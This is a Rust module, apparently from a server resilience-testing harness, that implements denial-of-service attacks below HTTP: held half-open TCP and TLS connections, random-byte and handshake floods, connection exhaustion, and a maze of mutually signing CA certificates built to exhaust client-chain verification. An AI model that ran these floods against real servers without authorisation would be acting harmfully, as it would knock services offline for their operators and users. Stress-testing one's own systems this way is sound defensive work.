//! Attacks below HTTP.

use std::io;
use std::sync::Arc;

use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, ExtendedKeyUsagePurpose, IsCa, KeyPair};
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::attacker::{Attacker, HTTP1, HTTP2};

/// As many as fit into an address's share.
const HELD: usize = 200;
/// A handshake holds less than 64 KiB.
const MOST_SHOWN: usize = 60 * 1024;
/// The head of a TLS record that says that 500 bytes of a `ClientHello` follow.
const HALF_A_HELLO: &[u8] = &[22, 3, 1, 1, 244, 1, 0, 1, 240, 3, 3];

/// Connections on which nothing is ever said.
pub(super) async fn half_open_tcp(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let stream = attacker.tcp().await?;
        attacker.did();
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(HELD, work).await;
}

/// Handshakes that stop in their first message.
pub(super) async fn half_open_tls(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let mut stream = attacker.tcp().await?;
        stream.write_all(HALF_A_HELLO).await?;
        attacker.did();
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(HELD, work).await;
}

/// Bytes that are no handshake at all, again and again.
pub(super) async fn random_bytes(attacker: Attacker) {
    let work = |attacker: Attacker, number: usize| async move {
        // Any sequence that repeats late will do.
        let mut state = number as u64 + 1;
        loop {
            let bytes: Vec<u8> = std::iter::repeat_with(|| {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                state.to_be_bytes()[0]
            })
            .take(2048)
            .collect();
            let mut stream = attacker.tcp().await?;
            stream.write_all(&bytes).await?;
            // It ends with an alert or a reset.
            let _ = stream.read_to_end(&mut Vec::new()).await;
            attacker.did();
        }
    };
    attacker.many(16, work).await;
}

/// Handshakes, each on a connection of its own, with nothing after.
pub(super) async fn handshake_flood(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        loop {
            drop(attacker.tls(HTTP2).await?);
            attacker.did();
        }
    };
    attacker.many(8, work).await;
}

/// Clients whose chain leads nowhere in as many ways as there are: each of nine authorities could have
/// signed each other, and the rest of what a handshake holds is looked at on each way.
pub(super) async fn hostile_chains(attacker: Attacker) {
    let Ok(credential) = maze().map(Arc::new) else { return };
    let work = |attacker: Attacker, _| {
        let credential = Arc::clone(&credential);
        async move {
            loop {
                let mut stream = attacker.tls_showing(&credential, HTTP2).await?;
                attacker.did();
                // The handshake is over for the client before the server has looked at what it shows.
                let _ = stream.read(&mut [0]).await;
            }
        }
    };
    attacker.many(8, work).await;
}

/// A client's certificate and key.
fn maze() -> Result<(Vec<CertificateDer<'static>>, PrivateKeyDer<'static>), rcgen::Error> {
    let params = |name: &str| {
        let mut params = CertificateParams::new(Vec::new())?;
        params.distinguished_name.push(DnType::CommonName, name);
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        Ok::<_, rcgen::Error>(params)
    };
    let authority = |name: &str| CertifiedIssuer::self_signed(params(name)?, KeyPair::generate()?);
    let maze = (0..9).map(|_| authority("maze")).collect::<Result<Vec<_>, _>>()?;
    let (filler, key) = (authority("filler")?, KeyPair::generate()?);
    let mut leaf = CertificateParams::new(Vec::new())?;
    leaf.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
    let mut chain = vec![leaf.signed_by(&key, &maze[0])?.der().clone()];
    chain.extend(maze.iter().map(|one| one.der().clone()));
    while chain.iter().map(|one| one.len() + 8).sum::<usize>() < MOST_SHOWN {
        chain.push(filler.der().clone());
    }
    Ok((chain, PrivateKeyDer::from(key)))
}

/// More connections than an address may have, kept open.
pub(super) async fn many(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let stream = attacker.tls(HTTP1).await?;
        attacker.did();
        attacker.hold(stream).await;
        io::Result::Ok(())
    };
    attacker.many(600, work).await;
}
